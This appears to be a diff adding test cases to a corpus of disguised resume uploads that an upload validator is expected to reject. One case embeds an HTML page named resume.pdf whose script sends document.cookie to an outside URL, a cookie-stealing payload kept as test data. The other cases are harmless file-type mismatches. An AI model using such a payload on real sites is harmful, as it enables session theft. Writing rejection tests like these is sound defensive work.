@@ -239,6 +239,44 @@ export function hostileCorpus(maxBytes: number): HostileFile[] {
       code: 'UNSUPPORTED_MEDIA_TYPE',
     },
     {
+      name: 'HTML page with a script named .pdf',
+      says: 'web page (HTML)',
+      fileName: 'resume.pdf',
+      data: Buffer.from(
+        '<!doctype html><html><head><script>document.location="https://example.com/?c="+document.cookie</script></head><body><h1>Jane Doe</h1><p>Software engineer with ten years of experience.</p></body></html>',
+      ),
+      status: 415,
+      code: 'UNSUPPORTED_MEDIA_TYPE',
+    },
+    {
+      name: 'HTML page named .txt',
+      says: 'web page (HTML)',
+      fileName: 'resume.txt',
+      data: Buffer.from(
+        '<html>\n<body>\n<p>Jane Doe, software engineer, jane@example.com</p>\n<p>Experience: Acme 2019-2024</p>\n</body>\n</html>\n',
+      ),
+      status: 415,
+      code: 'UNSUPPORTED_MEDIA_TYPE',
+    },
+    {
+      name: 'text resume named .pdf',
+      says: 'named .pdf but it is a plain text file',
+      fileName: 'resume.pdf',
+      data: Buffer.from(
+        'Jane Doe\njane@example.com\n\nEXPERIENCE\nEngineer, Acme Ltd   2019 - 2024\n• Built the billing service.\n',
+      ),
+      status: 415,
+      code: 'UNSUPPORTED_MEDIA_TYPE',
+    },
+    {
+      name: 'PDF named .docx',
+      says: 'named .docx but it is a PDF',
+      fileName: 'resume.docx',
+      data: textPdf(),
+      status: 415,
+      code: 'UNSUPPORTED_MEDIA_TYPE',
+    },
+    {
       name: 'image-only PDF',
       says: 'no text layer',
       fileName: 'scan.pdf',
